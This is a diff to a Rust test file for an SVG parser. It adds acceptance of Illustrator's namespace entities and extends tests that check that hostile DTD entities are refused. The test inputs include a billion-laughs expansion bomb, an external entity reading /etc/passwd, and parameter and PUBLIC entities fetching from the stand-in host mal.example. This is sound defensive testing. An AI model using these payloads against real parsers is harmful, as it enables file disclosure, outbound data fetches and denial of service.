@@ -169,8 +169,21 @@ fn what_would_be_missing_is_refused_with_a_reason() {
     );
 }
 
+/// As Illustrator saves it when it is to be edited again.
 #[test]
-fn entities_are_refused() {
+fn names_of_namespaces_may_be_abbreviated() {
+    let file = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n\
+        <!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [\n\
+        \t<!ENTITY ns_svg \"http://www.w3.org/2000/svg\">\n\t<!ENTITY ns_ai 'http://ns.adobe.com/AdobeIllustrator/10.0/'>\n]>\n\
+        <svg version=\"1.1\" xmlns=\"&ns_svg;\" xmlns:i=\"&ns_ai;\" viewBox=\"0 0 100 50\"><switch>\
+        <foreignObject requiredExtensions=\"&ns_ai;\" width=\"1\" height=\"1\"><i:pgf/></foreignObject>\
+        <g i:extraneous=\"self\"><path d=\"M0 0h90v40z\"/></g></switch></svg>";
+    let made = process(file.as_bytes()).unwrap();
+    assert_eq!(made.width, 2 * made.height);
+}
+
+#[test]
+fn entities_that_grow_or_reach_outside_are_refused() {
     let mut bomb = "<!DOCTYPE svg [<!ENTITY a0 \"lol\">".to_owned();
     for n in 1..10 {
         bomb += &format!("<!ENTITY a{n} \"{}\">", format!("&a{};", n - 1).repeat(10));
@@ -180,10 +193,27 @@ fn entities_are_refused() {
         bomb.as_str(),
         "<!DOCTYPE svg [<!ENTITY a9 SYSTEM \"file:///etc/passwd\">]>",
         "<!DOCTYPE svg [<!ENTITY % p SYSTEM \"https://mal.example/x.dtd\">%p;]>",
+        "<!DOCTYPE svg [<!ENTITY a9 PUBLIC \"x\" \"https://mal.example/x\">]>",
+        "<!DOCTYPE svg [<!ENTITY a9 \"<script/>\">]>",
+        "<!DOCTYPE svg [<!ENTITY a9\"x\">]>",
+        "<!DOCTYPE svg [<!ENTITY a9 \"x\"",
     ] {
         let error = refused(&format!(
             "<?xml version=\"1.0\"?>{head}{}",
             drawing("<title>&a9;</title><path d=\"M0 0h9v9z\"/>")
+        ));
+        assert!(error.to_string().contains("entities"), "{error}");
+    }
+    let many = format!("<!DOCTYPE svg [{}]>", "<!ENTITY a9 \"x\">".repeat(65));
+    let long = format!("<!DOCTYPE svg [<!ENTITY a9 \"{}\">]>", "x".repeat(257));
+    let often = format!("<!DOCTYPE svg [<!ENTITY a9 \"{}\">]>", "x".repeat(256));
+    for (head, uses) in [(many, 1), (long, 1), (often, 5_000)] {
+        let error = refused(&format!(
+            "{head}{}",
+            drawing(&format!(
+                "<title>{}</title><path d=\"M0 0h9v9z\"/>",
+                "&a9;".repeat(uses)
+            ))
         ));
         assert!(error.to_string().contains("entities"), "{error}");
     }
